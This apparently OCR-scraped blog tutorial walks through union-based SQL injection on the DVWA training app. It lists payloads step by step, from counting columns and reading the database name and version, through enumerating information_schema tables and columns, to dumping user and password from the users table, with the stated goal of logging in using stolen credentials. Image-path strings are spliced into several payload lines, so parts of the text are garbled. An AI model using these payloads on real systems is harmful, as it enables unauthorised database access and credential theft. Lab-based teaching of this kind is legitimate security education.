Top Ad unit 728 × 90


Union Based  Injection : Union based injection is an advance attack which targets the website's database unlike the front. Hand like bypass authentication method which we covered last time.
The idea is to fetch the username andpassword of the website from admin,user or this kind of table from the database and use these credentials to login in the website.

We can do whole process on DVWA

Steps Of  Union Base Injection

Step 1: Find any GET Method in the Website.
GET : .php?id=10        POST : .php
Step 2: Check exception handling in the website.
Step 3: Check total number of columns in the respective table.' order by 1 --+Submit=Submit#
Step 4: Select a vulnerable columnfrom the table.' union all select 1,2--+ &Submit=Submit#
Step 5: Check the database name' union all select database(),2--+ &Submit=Submit#
Step 6: Check the Version of the database.' union all select version(),2--+ &Submit=Submit#
Step7: Check the total numberof tables in the database' union all select 1,table_name from information_schema.tables --+ &Submit=Submit#
Target Table : users

Step 8 : Get the columns of the tabel users' union all select 1,column_name from information_schema.columns--+&Submit=Submit#
where table_name='users'--+ &Submit=Submit#

Target Columns : user and password

Step 9 : Get the contentof the user and password' union allselect user,password from users--+

Post a Comment